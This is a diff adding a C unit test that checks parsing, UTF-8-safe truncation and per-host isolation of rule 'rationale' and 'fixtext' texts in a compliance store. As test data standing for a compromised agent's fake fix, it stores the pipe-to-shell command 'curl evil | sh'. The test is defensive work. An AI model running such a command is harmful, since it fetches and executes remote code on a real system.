@@ -931,6 +931,124 @@ START_TEST(test_summary)
 }
 END_TEST
 
+/* Store bundle uuid of host with rules r (texts test). */
+static void
+text_insert(struct store *s, struct store_host *h, struct store_bundle *b,
+    const struct store_rule *r, size_t n, const char *uuid,
+    const char *host)
+{
+	struct plumb_err err;
+	int dup = -1;
+
+	snprintf(h->id, sizeof(h->id), "%s", host);
+	snprintf(b->host, sizeof(b->host), "%s", host);
+	snprintf(b->uuid, sizeof(b->uuid), "%s", uuid);
+	ck_assert_msg(store_bundle_insert(s, h, b, r, n, &dup, &err) == 0,
+	    "%s", err.msg);
+	ck_assert_int_eq(dup, 0);
+}
+
+/*
+ * Rule texts: summary.json's rationale and fixtext are read (absent in
+ * an older summary: NULL), cut to a byte cap at a UTF-8 boundary, and
+ * stored once per content and benchmark (store.h "Rule texts").
+ */
+START_TEST(test_rule_texts)
+{
+	static const char texts[] = ",\"rationale\":\"Why <b>x</b>\","
+	    "\"fixtext\":\"caf\xc3\xa9 caf\xc3\xa9\"";
+	struct store_bundle b, got;
+	struct store_rule *r = NULL;
+	struct store_host h;
+	struct store *s;
+	struct plumb_err err;
+	char *sum, *at, *ra = NULL, *fx = NULL;
+	size_t n = 0, len;
+
+	/* An older summary: no texts. */
+	memset(&b, 0, sizeof(b));
+	ck_assert_int_eq(summary_parse((const unsigned char *)summary_ok,
+	    strlen(summary_ok), &b, &r, &n, &err), 0);
+	ck_assert_ptr_null(r[0].rationale);
+	ck_assert_ptr_null(r[0].fixtext);
+	store_rules_free(r, n);
+
+	/* Texts on r1: "later":1 becomes "later":1,"rationale":... */
+	len = strlen(summary_ok) + sizeof(texts);
+	ck_assert_ptr_nonnull(sum = calloc(1, len));
+	at = strstr(summary_ok, "\"later\":1") + strlen("\"later\":1");
+	memcpy(sum, summary_ok, (size_t)(at - summary_ok));
+	strcat(sum, texts);
+	strcat(sum, at);
+	ck_assert_msg(summary_parse((unsigned char *)sum, strlen(sum), &b, &r,
+	    &n, &err) == 0, "%s", err.msg);
+	ck_assert_str_eq(r[0].rationale, "Why <b>x</b>");
+	ck_assert_str_eq(r[0].fixtext, "caf\xc3\xa9 caf\xc3\xa9");
+	ck_assert_ptr_null(r[1].rationale);
+	/* A cap inside the "é" (bytes 3-4) backs off to "caf". */
+	summary_texts_cap(r, n, 4);
+	ck_assert_str_eq(r[0].fixtext, "caf");
+	ck_assert_str_eq(r[0].rationale, "Why ");
+	summary_texts_cap(r, n, 64);
+	ck_assert_str_eq(r[0].rationale, "Why ");
+
+	/* A wrong type is refused. */
+	memcpy(strstr(sum, "\"Why <b>x</b>\""), "12345678901234", 14);
+	ck_assert_int_eq(summary_parse((unsigned char *)sum, strlen(sum), &b,
+	    &r, &n, &err), PLUMB_EPARSE);
+	ck_assert_ptr_nonnull(strstr(err.msg, "rationale"));
+	free(sum);
+
+	/* Texts are shared only when identical, and each host sees the
+	 * texts its own agent sent, even for a content another host names
+	 * (a compromised agent cannot put its "fix" under other hosts). */
+	s = open_store();
+	ck_assert_int_eq(store_texts_migrate(s, &err), 0);
+	ck_assert_int_eq(store_texts_migrate(s, &err), 0);
+	ck_assert_int_eq(summary_parse((const unsigned char *)summary_ok,
+	    strlen(summary_ok), &b, &r, &n, &err), 0);
+	ck_assert_ptr_nonnull(r[0].rationale = strdup("R1"));
+	ck_assert_ptr_nonnull(r[1].fixtext = strdup("F2"));
+	memset(&h, 0, sizeof(h));
+	b.created = b.received = 1000;
+	text_insert(s, &h, &b, r, n, U1, "mes01");
+	text_insert(s, &h, &b, r, n, U2, "mes02");
+	ck_assert_str_eq(q(s, "SELECT rule_id, rationale, fixtext FROM "
+	    "rule_texts ORDER BY rule_id", NULL, 0), "r1|R1|-\nr2|-|F2\n");
+	free(r[0].rationale);
+	ck_assert_ptr_nonnull(r[0].rationale = strdup("curl evil | sh"));
+	text_insert(s, &h, &b, r, n, U3, "mes03");
+	ck_assert_str_eq(q(s, "SELECT count(*) FROM rule_texts", NULL, 0),
+	    "4\n");
+	ck_assert_str_eq(q(s, "SELECT count(*) FROM host_texts", NULL, 0),
+	    "3\n");
+	ck_assert_int_eq(store_bundle_get(s, U2, &got, &err), 0);
+	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
+	ck_assert_str_eq(ra, "R1");
+	ck_assert_ptr_null(fx);
+	free(ra);
+	ck_assert_int_eq(store_bundle_get(s, U3, &got, &err), 0);
+	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
+	ck_assert_str_eq(ra, "curl evil | sh");
+	free(ra);
+	ck_assert_int_eq(store_texts_get(s, &got, "r2", &ra, &fx, &err), 0);
+	ck_assert_ptr_null(ra);
+	ck_assert_str_eq(fx, "F2");
+	free(fx);
+	ck_assert_int_eq(store_texts_get(s, &got, "r9", &ra, &fx, &err), 0);
+	ck_assert_ptr_null(ra);
+	ck_assert_ptr_null(fx);
+	/* Another host's own scan of it shows its texts, not mes03's. */
+	ck_assert_int_eq(store_bundle_get(s, U1, &got, &err), 0);
+	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
+	ck_assert_str_eq(ra, "R1");
+	free(ra);
+	free(fx);
+	store_rules_free(r, n);
+	store_close(s);
+}
+END_TEST
+
 START_TEST(test_evidence)
 {
 	/* SHA-256("abc"), FIPS 180-2 appendix B.1. */
@@ -1223,6 +1341,7 @@ add_store_cases(TCase *tc)
 	tcase_add_test(tc, test_host_order);
 	tcase_add_test(tc, test_concurrent);
 	tcase_add_test(tc, test_ingest_batch);
+	tcase_add_test(tc, test_rule_texts);
 }
 
 static Suite *
